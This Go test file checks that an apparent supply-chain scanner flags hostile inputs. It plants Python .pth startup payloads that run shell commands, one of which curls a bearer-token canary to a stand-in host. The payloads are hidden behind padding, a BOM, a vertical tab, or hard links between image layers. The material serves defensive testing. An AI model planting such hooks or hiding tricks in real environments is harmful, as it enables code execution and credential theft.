package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
)

// Hostile file content, parser and image-layer inputs, run through the
// real binary: none may end CLEAN, each finishes within a generous bound,
// and the process's peak memory stays bounded (ru_maxrss of the child,
// which on Linux also counts the test process it was forked from: an
// upper bound).

const (
	hcBound   = 2 * time.Minute
	hcMaxRSS  = 1 << 30 // bytes
	hcSite    = "home/u/.venv/lib/python3.11/site-packages"
	hcCanary  = "LSCANARYz9y8x7w6v5u4"
	hcPayload = "import os, subprocess; subprocess.Popen(['sh', '-c', 'id'])\n"
)

type contentCase struct {
	name  string
	setup func(t *testing.T, dir string) []string // returns the command's arguments
}

func writeFile(t *testing.T, p string, b []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func hostRoot(dir string) []string {
	return []string{"host", "--root", filepath.Join(dir, "root"), "--no-live"}
}

func TestHostileContent(t *testing.T) {
	bin := litesweepBinary(t)
	cases := []contentCase{
		{"pth-payload-after-megabytes-of-binary", func(t *testing.T, dir string) []string {
			junk := bytes.Repeat([]byte("\x00\x01\xfe\xff binary junk\n"), 600_000)
			writeFile(t, filepath.Join(dir, "root", hcSite, "aaa.pth"), append(junk, hcPayload...))
			return hostRoot(dir)
		}},
		{"pth-payload-after-megabytes-of-comments", func(t *testing.T, dir string) []string {
			pad := bytes.Repeat([]byte("# nothing to see here, keep scrolling\n"), 300_000)
			writeFile(t, filepath.Join(dir, "root", hcSite, "zz.pth"), append(pad, hcPayload...))
			return hostRoot(dir)
		}},
		{"pth-canary-in-long-literal", func(t *testing.T, dir string) []string {
			writeFile(t, filepath.Join(dir, "root", hcSite, "tok.pth"),
				[]byte("import os, subprocess; subprocess.run(['curl', '-H', 'Authorization: Bearer "+hcCanary+"', 'https://x'])\n"))
			return hostRoot(dir)
		}},
		{"pth-bom-payload", func(t *testing.T, dir string) []string {
			writeFile(t, filepath.Join(dir, "root", hcSite, "bom.pth"), append([]byte("\ufeff"), hcPayload...))
			return hostRoot(dir)
		}},
		{"pth-vertical-tab-hidden-line", func(t *testing.T, dir string) []string {
			writeFile(t, filepath.Join(dir, "root", hcSite, "vt.pth"), []byte("/opt/lib\v"+hcPayload))
			return hostRoot(dir)
		}},
		{"pth-too-large-to-read", func(t *testing.T, dir string) []string {
			p := filepath.Join(dir, "root", hcSite, "huge.pth")
			writeFile(t, p, nil)
			if err := os.Truncate(p, 300<<20); err != nil { // sparse: zeros
				t.Fatal(err)
			}
			return hostRoot(dir)
		}},
		{"pip-cache-hostile-msgpack", func(t *testing.T, dir string) []string {
			n := 60 << 20
			b := []byte("cc=4,\x81\xa8response\xdd\x00\x00\x00\x00")
			binary.BigEndian.PutUint32(b[len(b)-4:], uint32(n))
			b = append(b, bytes.Repeat([]byte{0xc0}, n)...)
			sum := sha256.Sum224([]byte("https://files.pythonhosted.org/x.whl"))
			h := hex.EncodeToString(sum[:])
			writeFile(t, filepath.Join(dir, "root", "home/u/.cache/pip/http-v2", h[0:1], h[1:2], h[2:3], h[3:4], h[4:5], h), b)
			return hostRoot(dir)
		}},
		{"poetry-lock-50k-packages-then-bad-pin", func(t *testing.T, dir string) []string {
			var sb strings.Builder
			for i := 0; i < 50_000; i++ {
				sb.WriteString("[[package]]\nname = \"p" + itoa(i) + "\"\nversion = \"1.0\"\n\n")
			}
			sb.WriteString("[[package]]\nname = \"litellm\"\nversion = \"1.82.8\"\n")
			writeFile(t, filepath.Join(dir, "root", "home/u/proj/poetry.lock"), []byte(sb.String()))
			return hostRoot(dir)
		}},
		{"image-pth-hard-link-to-lower-layer", func(t *testing.T, dir string) []string {
			stash := tarOf(t, tarMember{name: "usr/share/doc/x/changelog.bin", body: hcPayload})
			link := tarOf(t, tarMember{name: "usr/local/lib/python3.11/site-packages/zz_hook.pth", link: "usr/share/doc/x/changelog.bin"})
			return []string{"images", "--oci-layout", ociLayout(t, filepath.Join(dir, "layout"), stash, link)}
		}},
		{"image-pth-hard-link-same-layer", func(t *testing.T, dir string) []string {
			l := tarOf(t, tarMember{name: "opt/x/changelog.bin", body: hcPayload},
				tarMember{name: "usr/local/lib/python3.11/site-packages/zz_hook.pth", link: "opt/x/changelog.bin"})
			return []string{"images", "--oci-layout", ociLayout(t, filepath.Join(dir, "layout"), l)}
		}},
		{"image-blob-is-a-fifo", func(t *testing.T, dir string) []string {
			l := tarOf(t, tarMember{name: "etc/motd", body: "hi"})
			lay := ociLayout(t, filepath.Join(dir, "layout"), l)
			sum := sha256.Sum256(l)
			b := filepath.Join(lay, "blobs", "sha256", hex.EncodeToString(sum[:]))
			if err := os.Remove(b); err != nil {
				t.Fatal(err)
			}
			if err := syscall.Mkfifo(b, 0o644); err != nil {
				t.Fatal(err)
			}
			return []string{"images", "--oci-layout", lay}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			args := tc.setup(t, dir)
			out := filepath.Join(dir, "report.json")
			ctx, cancel := context.WithTimeout(context.Background(), hcBound)
			defer cancel()
			cmd, peak := peakRSSCommand(ctx, t, bin, append(args, "--format", "json", "-o", out)...)
			var stderr bytes.Buffer
			cmd.Stderr = &stderr
			start := time.Now()
			err := cmd.Run()
			took := time.Since(start)
			if ctx.Err() != nil {
				t.Fatalf("did not finish within %v", hcBound)
			}
			code := 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			rss := peak()
			var rep struct {
				Verdict string `json:"verdict"`
			}
			b, rerr := os.ReadFile(out)
			if rerr == nil {
				rerr = json.Unmarshal(b, &rep)
			}
			t.Logf("exit %d, verdict %s, %v, max RSS %d MiB", code, rep.Verdict, took.Round(time.Millisecond), rss>>20)
			if rerr != nil {
				t.Fatalf("report: %v (stderr %s)", rerr, stderr.String())
			}
			if code == 0 || rep.Verdict == "CLEAN" || rep.Verdict == "" {
				t.Errorf("exit %d, verdict %q: a hostile input ended CLEAN\n%s", code, rep.Verdict, b)
			}
			if bytes.Contains(b, []byte(hcCanary)) || strings.Contains(stderr.String(), hcCanary) {
				t.Errorf("the canary planted in a .pth literal reached the report or stderr")
			}
			if rss > hcMaxRSS {
				t.Errorf("max RSS %d MiB", rss>>20)
			}
		})
	}
}

type tarMember struct{ name, body, link string }

func tarOf(t *testing.T, ms ...tarMember) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	dirs := map[string]bool{}
	for _, m := range ms {
		for d := path.Dir(m.name); d != "." && !dirs[d]; d = path.Dir(d) {
			dirs[d] = true
		}
	}
	for d := range dirs {
		tw.WriteHeader(&tar.Header{Name: d + "/", Typeflag: tar.TypeDir, Mode: 0o755})
	}
	for _, m := range ms {
		h := &tar.Header{Name: m.name, Mode: 0o644, Typeflag: tar.TypeReg, Size: int64(len(m.body))}
		if m.link != "" {
			h.Typeflag, h.Linkname, h.Size = tar.TypeLink, m.link, 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			tw.Write([]byte(m.body))
		}
	}
	tw.Close()
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(buf.Bytes())
	zw.Close()
	return gz.Bytes()
}

// ociLayout writes a one-image OCI layout whose layers are the given
// gzipped tars, bottom-up.
func ociLayout(t *testing.T, dir string, layers ...[]byte) string {
	t.Helper()
	img := empty.Image
	for _, b := range layers {
		b := b
		l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil })
		if err != nil {
			t.Fatal(err)
		}
		if img, err = mutate.AppendLayers(img, l); err != nil {
			t.Fatal(err)
		}
	}
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.Architecture, cf.OS = "amd64", "linux"
	if img, err = mutate.ConfigFile(img, cf); err != nil {
		t.Fatal(err)
	}
	p, err := layout.Write(dir, empty.Index)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.AppendImage(img, layout.WithAnnotations(map[string]string{"io.containerd.image.name": "hostile:1"})); err != nil {
		t.Fatal(err)
	}
	return dir
}
